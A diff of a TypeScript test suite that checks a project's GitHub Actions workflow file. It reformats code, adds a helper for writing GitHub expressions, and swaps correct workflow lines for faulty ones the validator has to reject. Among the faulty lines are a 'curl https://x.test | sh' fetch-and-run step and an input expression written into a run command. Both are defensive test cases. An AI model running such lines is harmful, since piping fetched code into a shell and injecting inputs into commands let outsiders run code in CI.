@@ -13,10 +13,15 @@ const helps = new Map<string, ReadonlySet<string>>();
 /** Asks the script itself. */
 function flagsOf(script: string): ReadonlySet<string> {
   const [, entry = ''] = / (actions\/\S+)$/.exec(scripts[script] ?? '') ?? [];
-  const help = helps.get(script) ?? new Set(
-    [...execFileSync(process.execPath, [entry, '--help'], { cwd: root, encoding: 'utf8' }).matchAll(/^ {2}--([\w-]+)/gm)]
-      .map(([, flag = '']) => flag),
-  );
+  const help =
+    helps.get(script) ??
+    new Set(
+      [
+        ...execFileSync(process.execPath, [entry, '--help'], { cwd: root, encoding: 'utf8' }).matchAll(
+          /^ {2}--([\w-]+)/gm,
+        ),
+      ].map(([, flag = '']) => flag),
+    );
   helps.set(script, help);
   return help;
 }
@@ -38,6 +43,9 @@ test('every secret and variable is in the table of operations.md, and no other',
   expect(documented.toSorted()).toEqual([...used].sort());
 });
 
+/** As GitHub writes one, which is not as JavaScript does. */
+const expression = (text: string) => `$${`{{ ${text} }}`}`;
+
 const snapshot = workflows.find(({ path }) => path.endsWith('snapshot.yml'));
 const checkout = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1';
 
@@ -58,25 +66,45 @@ test.each([
   [checkout, checkout.replace('checkout', 'cache'), 'is no action of ours'],
   ['    permissions:\n      contents: read\n    uses', '    uses', 'job recheck does not say what it may do'],
   ['    environment: production\n', '', 'job snapshot takes secrets outside the environment'],
-  ['if: ${{ !cancelled() && !github.event.repository.fork }}', 'if: ${{ !cancelled() }}', 'job snapshot runs on forks'],
-  ['./.github/workflows/recheck.yml', './.github/workflows/none.yml', 'job recheck calls ./.github/workflows/none.yml'],
+  [
+    `if: ${expression('!cancelled() && !github.event.repository.fork')}`,
+    `if: ${expression('!cancelled()')}`,
+    'job snapshot runs on forks',
+  ],
+  [
+    './.github/workflows/recheck.yml',
+    './.github/workflows/none.yml',
+    'job recheck calls ./.github/workflows/none.yml',
+  ],
   ['./.github/workflows/recheck.yml', 'x/y/.github/workflows/recheck.yml@main', 'job recheck calls x/y'],
   ['runs-on: ubuntu-24.04', 'runs-on: ubuntu-latest', 'job snapshot runs on ubuntu-latest'],
   ['    timeout-minutes: 90\n', '', 'job snapshot may run for six hours'],
   ['          persist-credentials: false\n', '          fetch-depth: 1\n', 'job snapshot leaves its token'],
-  ['run: npm run tunnel -- npm run dataset:export', 'run: npm run dataset:export -- ${{ inputs.force }}', 'writes an expression into'],
+  [
+    'run: npm run tunnel -- npm run dataset:export',
+    `run: npm run dataset:export -- ${expression('inputs.force')}`,
+    'writes an expression into',
+  ],
   ['npm ci --ignore-scripts', 'npm ci', 'job snapshot runs "npm ci", which is neither'],
   ['npm ci --ignore-scripts', 'curl https://x.test | sh', 'which is neither a script nor a file'],
   ['npm ci --ignore-scripts', 'bash .ci/none', 'runs .ci/none, which is not there'],
-  ['npm run dataset:export', 'npm run dataset:exports', 'runs dataset:exports, which package.json does not have'],
-  ['npm run dataset:export', 'npm run dataset:export -- --fast', 'gives dataset:export --fast, which it does not know'],
+  [
+    'npm run dataset:export',
+    'npm run dataset:exports',
+    'runs dataset:exports, which package.json does not have',
+  ],
+  [
+    'npm run dataset:export',
+    'npm run dataset:export -- --fast',
+    'gives dataset:export --fast, which it does not know',
+  ],
   ['INPUT_FORCE', 'INPUT_FORCED', 'gives dataset:export --forced, which it does not know'],
 ])('%s may not be %s', (right, wrong, sentence) => {
   if (snapshot === undefined) throw new Error('there is no snapshot.yml');
   expect(snapshot.text).toContain(right);
   const text = snapshot.text.replace(right, wrong);
   const found = workflowViolations({ ...snapshot, text }, known);
-  expect(found).toEqual([expect.stringContaining(sentence)]);
+  expect(found).toContainEqual(expect.stringContaining(sentence));
 });
 
 test('a form that ours do not have is refused as a whole', () => {
